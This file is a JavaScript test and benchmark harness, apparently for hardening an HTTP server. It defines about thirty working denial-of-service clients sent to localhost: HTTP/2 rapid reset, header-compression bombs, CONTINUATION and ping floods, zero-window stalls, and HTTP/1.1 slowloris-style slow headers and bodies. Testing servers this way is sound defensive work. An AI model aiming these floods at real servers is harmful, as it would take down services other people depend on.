// Clients that mean harm: raw bytes over TCP or TLS, each in a form that costs the server more than
// it costs them. `attacks` lists them; tests run each once, the benchmark for a while.
import net from 'node:net';
import tls from 'node:tls';
import { HEARD_MAX } from './http.mjs';
import { watchOf } from './watch.mjs';

/** A connection that an attacker writes on. */
export class Wire {
    constructor(socket, port) {
        this.socket = socket;
        this.isEnded = false;
        this.written = 0;
        this.sent = '';
        this.received = '';
        this.ended = new Promise((resolve) => {
            socket.on('close', () => {
                this.isEnded = true;
                watchOf(port)?.hearBytes(this.sent, this.received);
                resolve();
            });
        });
        socket.on('error', () => {});
        socket.on('end', () => socket.destroy());
        socket.on('data', (bytes) => {
            if (this.received.length < 100_000) this.received += bytes.toString('latin1');
        });
    }

    /** `protocol`: h2 or http/1.1, of which TLS tells the server. `localAddress`: whence. */
    static open({ port, isSecure, protocol, localAddress }) {
        return new Promise((resolve, reject) => {
            const to = { host: '127.0.0.1', port, localAddress };
            const socket = isSecure
                ? tls.connect({ ...to, rejectUnauthorized: false, ALPNProtocols: [protocol] })
                : net.connect(to);
            const begun = isSecure ? 'secureConnect' : 'connect';
            socket.once(begun, () => resolve(new Wire(socket, port)));
            socket.once('error', reject);
        });
    }

    /** Writes, and waits until the server has taken it or has ended the connection. */
    async write(bytes) {
        if (this.isEnded) return;
        this.written += bytes.length;
        if (this.sent.length < HEARD_MAX) this.sent += bytes.toString('latin1').slice(0, HEARD_MAX);
        if (this.socket.write(bytes)) {
            await new Promise((resolve) => setImmediate(resolve));
            return;
        }
        const taken = new Promise((resolve) => this.socket.once('drain', resolve));
        await Promise.race([taken, this.ended]);
    }

    /** Again and again until the connection is ended or the time is over. */
    async repeat(makeBytes, { pauseMs = 0, untilMs } = {}) {
        for (let at = 0; !this.isEnded && Date.now() < (untilMs ?? Infinity); at++) {
            await this.write(makeBytes(at));
            if (pauseMs > 0) await this.pause(pauseMs);
        }
    }

    async pause(ms) {
        let timer;
        const over = new Promise((resolve) => {
            timer = setTimeout(resolve, ms);
        });
        await Promise.race([over, this.ended]);
        clearTimeout(timer);
    }

    close() {
        this.socket.destroy();
    }
}

/* HTTP/2 frames (RFC 9113, 4.1) and header blocks without a table (RFC 7541). */

const DATA = 0;
const HEADERS = 1;
const PRIORITY = 2;
const RESET = 3;
const SETTINGS = 4;
const PING = 6;
const WINDOW = 8;
const CONTINUATION = 9;
const END_STREAM = 1;
const END_HEADERS = 4;

export function frame(type, flags, stream, body = Buffer.alloc(0)) {
    const head = Buffer.alloc(9);
    head.writeUIntBE(body.length, 0, 3);
    head[3] = type;
    head[4] = flags;
    head.writeUInt32BE(stream, 5);
    return Buffer.concat([head, body]);
}

export const number = (value) => {
    const bytes = Buffer.alloc(4);
    bytes.writeUInt32BE(value);
    return bytes;
};
const text = (value) => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);

export function block(method, path, host) {
    const first = Buffer.from([method === 'POST' ? 0x83 : 0x82, 0x86, 0x04]);
    return Buffer.concat([first, text(path), Buffer.from([0x01]), text(host)]);
}

export function preface(settings = Buffer.alloc(0)) {
    const line = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
    return Buffer.concat([line, frame(SETTINGS, 0, 0, settings)]);
}

const many = (count, make) => Buffer.concat(Array.from({ length: count }, (_, at) => make(at)));

/** A head over as many frames as it needs. */
function longHead(stream, bytes, isEnded) {
    const parts = [];
    for (let at = 0; at < bytes.length; at += 16_384) {
        const isLast = at + 16_384 >= bytes.length;
        const flags = (isLast ? END_HEADERS : 0) | (at === 0 && isEnded ? END_STREAM : 0);
        const type = at === 0 ? HEADERS : CONTINUATION;
        parts.push(frame(type, flags, stream, bytes.subarray(at, at + 16_384)));
    }
    return Buffer.concat(parts);
}

const ping = frame(PING, 0, 0, Buffer.alloc(8));

/** Streams that are opened, and spoilt by what follows. */
const spoilt = (spoil) => async (wire, { host, untilMs }) => {
    await wire.write(preface());
    const head = block('GET', '/healthz', host);
    const both = (stream) =>
        Buffer.concat([frame(HEADERS, END_STREAM | END_HEADERS, stream, head), spoil(stream)]);
    const batch = (round) => many(200, (at) => both(1 + 2 * (200 * round + at)));
    await wire.repeat(batch, { untilMs });
};

/** The same frames for ever. */
const flood = (bytes) => async (wire, { untilMs }) => {
    await wire.write(preface());
    const batch = many(1000, () => bytes);
    await wire.repeat(() => batch, { untilMs });
};

async function emptyData(wire, { host, untilMs }) {
    await wire.write(preface());
    await wire.write(frame(HEADERS, END_HEADERS, 1, block('POST', '/healthz', host)));
    const batch = many(1000, () => frame(DATA, 0, 1));
    await wire.repeat(() => batch, { untilMs });
}

const bomb = (fieldCount, isEnded) => async (wire, { host, untilMs }) => {
    await wire.write(preface());
    const method = isEnded ? 'GET' : 'POST';
    const fields = Buffer.alloc(fieldCount, 0x90);
    const head = Buffer.concat([block(method, '/healthz', host), fields]);
    await wire.repeat((at) => longHead(1 + 2 * at, head, isEnded), { untilMs });
};

const continuations = (bytes) => async (wire, { host, untilMs }) => {
    await wire.write(preface());
    await wire.write(frame(HEADERS, END_STREAM, 1, block('GET', '/healthz', host)));
    const batch = many(8, () => frame(CONTINUATION, 0, 1, bytes));
    await wire.repeat(() => batch, { untilMs });
};

async function openBodies(wire, { host, untilMs }) {
    await wire.write(preface());
    const piece = Buffer.alloc(16_384, 'x');
    const head = block('POST', '/api/v1/session', host);
    await wire.repeat(
        (at) => {
            const stream = 1 + 2 * (at % 100);
            if (at < 100) return frame(HEADERS, END_HEADERS, stream, head);
            return at < 6400 ? frame(DATA, 0, stream, piece) : ping;
        },
        { untilMs },
    );
}

async function slowBodies(wire, { host, untilMs, pauseMs }) {
    await wire.write(preface());
    const head = block('POST', '/api/v1/session', host);
    await wire.write(many(32, (at) => frame(HEADERS, END_HEADERS, 1 + 2 * at, head)));
    await wire.repeat((at) => frame(DATA, 0, 1 + 2 * (at % 32), Buffer.from('x')), {
        untilMs,
        pauseMs,
    });
}

/** Large answers that are asked for and not taken; pings in between, as from somebody alive. */
async function shutWindow(wire, { host, untilMs, pauseMs }) {
    await wire.write(preface(Buffer.concat([Buffer.from([0, 4]), number(0)])));
    const head = block('GET', '/api/v1/openapi.json', host);
    await wire.write(many(100, (at) => frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * at, head)));
    await wire.repeat(() => ping, { untilMs, pauseMs });
}

async function onlyPings(wire, { untilMs, pauseMs }) {
    await wire.write(preface());
    await wire.repeat(() => ping, { untilMs, pauseMs });
}

async function manyStreams(wire, { host, untilMs }) {
    await wire.write(preface());
    const head = block('POST', '/healthz', host);
    const batch = (round) =>
        many(100, (at) => frame(HEADERS, END_HEADERS, 1 + 2 * (100 * round + at), head));
    await wire.repeat(batch, { untilMs });
}

async function hugeFrame(wire, { untilMs }) {
    const head = frame(DATA, 0, 1);
    head.writeUIntBE(0xffffff, 0, 3);
    await wire.write(Buffer.concat([preface(), head]));
    const piece = Buffer.alloc(65_536);
    await wire.repeat(() => piece, { untilMs });
}

/* HTTP/1.1. */

const begin = (line, host, more = '') =>
    Buffer.from(`${line} HTTP/1.1\r\nHost: ${host}\r\n${more}`);

async function slowHead(wire, { host, untilMs, pauseMs }) {
    await wire.write(begin('GET /healthz', host));
    await wire.repeat((at) => Buffer.from(`X-${at}: y\r\n`), { untilMs, pauseMs });
}

async function endlessHead(wire, { host, untilMs }) {
    await wire.write(begin('GET /healthz', host, 'X: '));
    const piece = Buffer.alloc(65_536, 'y');
    await wire.repeat(() => piece, { untilMs });
}

async function slowBody(wire, { host, untilMs, pauseMs }) {
    await wire.write(begin('POST /api/v1/session', host, 'Content-Length: 100000\r\n\r\n'));
    await wire.repeat(() => Buffer.from('x'), { untilMs, pauseMs });
}

async function endlessChunk(wire, { host, untilMs }) {
    await wire.write(begin('POST /api/v1/session', host, 'Transfer-Encoding: chunked\r\n\r\n1;'));
    const piece = Buffer.alloc(65_536, 'y');
    await wire.repeat(() => piece, { untilMs });
}

async function slowReader(wire, { host }) {
    wire.socket.pause();
    const ask = begin('GET /api/v1/openapi.json', host, '\r\n');
    await wire.write(many(400, () => ask));
    // Only who reads sees an end; the server's figures tell it sooner.
    await wire.ended;
}

async function hugeBody(wire, { host, untilMs }) {
    await wire.write(begin('POST /api/v1/session', host, 'Content-Length: 99999999999\r\n\r\n'));
    const piece = Buffer.alloc(65_536, 'y');
    await wire.repeat(() => piece, { untilMs });
}

async function silent(wire) {
    await wire.ended;
}

const bytes = Buffer.alloc(16_384, 0x00);

/**
 * `isSlow`: it is time that ends it, of a request, an answer or a silence. `isUnseen`: the attacker
 * does not read, and so does not see the end.
 */
export const attacks = [
    { name: 'rapid reset', run: spoilt((stream) => frame(RESET, 0, stream, number(8))) },
    {
        name: 'made to reset by a window of nothing',
        run: spoilt((stream) => frame(WINDOW, 0, stream, number(0))),
    },
    {
        name: 'made to reset by a window too large',
        run: spoilt((stream) => frame(WINDOW, 0, stream, number(0x7fffffff))),
    },
    {
        name: 'made to reset by data behind the end',
        run: spoilt((stream) => frame(DATA, 0, stream, Buffer.from('x'))),
    },
    {
        name: 'made to reset by a dependence on itself',
        run: spoilt((stream) =>
            frame(PRIORITY, 0, stream, Buffer.concat([number(stream), Buffer.from([1])])),
        ),
    },
    { name: 'bomb of 400,000 indexed headers', run: bomb(400_000, true) },
    { name: 'bombs of 900 headers', run: bomb(900, true) },
    { name: 'bombs of 900 headers, kept open', run: bomb(900, false) },
    { name: 'continuations of nothing', run: continuations(Buffer.alloc(0)) },
    { name: 'continuations without end', run: continuations(bytes) },
    { name: 'pings', run: flood(ping) },
    { name: 'settings', run: flood(frame(SETTINGS, 0, 0)) },
    {
        name: 'priorities',
        run: flood(frame(PRIORITY, 0, 3, Buffer.from([0, 0, 0, 0, 1]))),
    },
    { name: 'windows', run: flood(frame(WINDOW, 0, 0, number(1))) },
    { name: 'frames of an unknown kind', run: flood(frame(200, 0, 0, Buffer.from('x'))) },
    { name: 'data of nothing', run: emptyData },
    { name: 'streams without number', run: manyStreams },
    { name: 'a frame of 16 MiB', run: hugeFrame },
    { name: 'a hundred open bodies', run: openBodies },
    { name: 'bodies byte by byte (HTTP/2)', run: slowBodies, isSlow: true },
    { name: 'windows that stay shut', run: shutWindow, isSlow: true },
    { name: 'pings alone, now and then', run: onlyPings, isSlow: true },
    { name: 'a head without end', run: endlessHead, protocol: 'http/1.1' },
    { name: 'a chunk without end', run: endlessChunk, protocol: 'http/1.1' },
    { name: 'a body that is too large', run: hugeBody, protocol: 'http/1.1' },
    { name: 'a head line by line', run: slowHead, protocol: 'http/1.1', isSlow: true },
    { name: 'a body byte by byte', run: slowBody, protocol: 'http/1.1', isSlow: true },
    { name: 'silence', run: silent, protocol: 'http/1.1', isSlow: true },
    {
        name: 'a reader that takes nothing',
        run: slowReader,
        protocol: 'http/1.1',
        isSlow: true,
        isUnseen: true,
    },
].map((attack) => ({ protocol: 'h2', isSlow: false, isUnseen: false, ...attack }));
